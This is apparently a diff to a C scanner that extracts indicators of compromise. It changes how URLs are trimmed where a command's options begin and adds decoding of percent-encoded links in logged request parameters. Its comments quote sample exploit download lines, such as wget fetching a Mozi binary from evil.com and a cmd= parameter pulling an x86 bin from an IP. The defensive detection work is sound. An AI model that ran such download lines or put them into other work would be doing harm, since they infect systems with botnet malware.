@@ -4183,8 +4183,37 @@ shell_after(const struct ioc_scanner *sc, size_t i, size_t e)
 		return 1;
 	while (sc->cls[(unsigned char)t[k]] & C_ALNUM)
 		k++;
-	return k > e + 1 && (t[k] == '+' || (t[k] == '%' && t[k + 1] == '2' &&
-	    t[k + 2] == '0'));
+	return k > e + 1 && (t[k] == '+' || t[k] == '$' || (t[k] == '%' &&
+	    t[k + 1] == '2' && t[k + 2] == '0'));
+}
+
+/*
+ * Where the path of the URL t[i..e) gives way to a command's options,
+ * as an exploit's encoded download line writes them after it: an
+ * encoded blank ('+' or "%20"), '-' and one or two letters, then
+ * another blank, a '-' or the end: "wget+http://evil.com/Mozi.m+-O+
+ * /tmp/x" ends before "+-O+"; "/c++-tutorial" and "/a+-+b" are a
+ * path's. e when there is none (a query's '+' is a blank of its own).
+ */
+static size_t
+shell_options(const struct ioc_scanner *sc, size_t i, size_t e)
+{
+	const char *t = sc->text.data, *q = memchr(t + i, '?', e - i), *p;
+	size_t end = q ? (size_t)(q - t) : e, k, n;
+
+	for (p = memchr(t + i, '-', end - i); p != NULL;
+	    p = memchr(p + 1, '-', (size_t)(t + end - p - 1))) {
+		k = (size_t)(p - t);
+		if (k == i || !(t[k - 1] == '+' || (k >= i + 3 &&
+		    t[k - 3] == '%' && t[k - 2] == '2' && t[k - 1] == '0')))
+			continue;
+		for (n = k + 1; n < end && ascii_letter(t[n]); n++)
+			;
+		if (n - k - 1 >= 1 && n - k - 1 <= 2 && (n == end ||
+		    t[n] == '+' || t[n] == '-' || t[n] == '%'))
+			return t[k - 1] == '+' ? k - 1 : k - 3;
+	}
+	return e;
 }
 
 /*
@@ -4241,7 +4270,7 @@ url_end(struct ioc_scanner *sc, size_t i)
 	    !ascii_alnum((unsigned char)t[e - 1]) ||
 	    !cjk_char(t, sc->text.len, e)))
 		e++;
-	e = url_sep_end(sc, i, e);
+	e = shell_options(sc, i, url_sep_end(sc, i, e));
 	for (;;) {
 		char close, opener_c;
 		size_t closes;
@@ -4369,25 +4398,17 @@ wrapped_target(const char *host, const char *rest, size_t n, size_t *len,
 	return NULL;
 }
 
-/*
- * A link wrapped in another (wrapped_target) or named in its path or
- * query (nested_link): its target, decoded, waits to be scanned where
- * the wrapper t[a..b) was: the wrapper's host alone would be the
- * indicator otherwise.
- */
+/* The target v (len bytes; percent-decoded when decode is set, and
+ * Proofpoint's v2 encoding when proofpoint is) of the wrapper t[a..b),
+ * added to those read after the scan. */
 static void
-note_wrapped(struct ioc_scanner *sc, const char *host, const char *rest,
-    size_t n, size_t a, size_t b)
+wrap_add(struct ioc_scanner *sc, const char *v, size_t len, int proofpoint,
+    int decode, size_t a, size_t b)
 {
-	size_t len = 0, k, start = sc->wrapped.len;
-	const char *v;
-	int proofpoint = 0, decode = 1, d1, d2;
+	size_t k, start = sc->wrapped.len;
+	int d1, d2;
 	struct ioc ioc;
 
-	if ((v = wrapped_target(host, rest, n, &len, &proofpoint)) == NULL)
-		v = nested_link(rest, n, &len, &decode);
-	if (v == NULL || len < 8 || len > 8192)
-		return;
 	for (k = 0; k < len; k++) {	/* percent-decoded */
 		char c = v[k];
 
@@ -4411,6 +4432,52 @@ note_wrapped(struct ioc_scanner *sc, const char *host, const char *rest,
 	    ioc.length };
 	buf_addch(&sc->wrapped, '\0');
 }
+
+/*
+ * A link wrapped in another (wrapped_target) or named in its path or
+ * query (nested_link): its target, decoded, waits to be scanned where
+ * the wrapper t[a..b) was: the wrapper's host alone would be the
+ * indicator otherwise.
+ */
+static void
+note_wrapped(struct ioc_scanner *sc, const char *host, const char *rest,
+    size_t n, size_t a, size_t b)
+{
+	size_t len = 0;
+	const char *v;
+	int proofpoint = 0, decode = 1;
+
+	if ((v = wrapped_target(host, rest, n, &len, &proofpoint)) == NULL)
+		v = nested_link(rest, n, &len, &decode);
+	if (v == NULL || len < 8 || len > 8192)
+		return;
+	wrap_add(sc, v, len, proofpoint, decode, a, b);
+}
+
+/* A link written percent-encoded outside any URL, as a logged request's
+ * parameter carries an exploit's download line
+ * ("cmd=wget%20http%3A%2F%2F198.51.100.9%2Fbins%2Fx86"): the token
+ * t[a..b), decoded, waits to be scanned where it was. Read of no other
+ * token's bytes, but what it gives comes after the scan: not for the
+ * memo. */
+static void
+note_encoded(struct ioc_scanner *sc, size_t a, size_t b)
+{
+	const char *t = sc->text.data, *p = t + a;
+
+	while ((p = memchr(p, '%', (size_t)(t + b - p))) != NULL &&
+	    (size_t)(t + b - p) >= 9) {
+		if (strncasecmp(p, "%3a%2f%2f", 9) == 0) {
+			if (sc->nested < 3 && b - a <= 8192) {
+				sc->memo_outside = 1;
+				wrap_add(sc, t + a, b - a, 0, 1, a, b);
+			}
+			return;
+		}
+		p++;
+	}
+}
+
 
 /* The CVE ids a URL's path or query names, t[p..e): an advisory's link
  * (https://nvd.nist.gov/vuln/detail/CVE-2024-3094) says which. */
@@ -5375,6 +5442,8 @@ token(struct ioc_scanner *sc, size_t a, size_t *bp, unsigned marks)
 		try_ipv4(sc, a, a + k);	/* "1.2.3.4.The": no name */
 	else if (b - a >= 15 && memmem(t + a, b - a, "CVE", 3) != NULL)
 		url_cves(sc, a, b);	/* "Exploit.Win32.CVE-2017-0199.a" */
+	else if (b - a >= 16 && memchr(t + a, '%', b - a) != NULL)
+		note_encoded(sc, a, b);	/* "http%3A%2F%2F..." */
 }
 
 /*
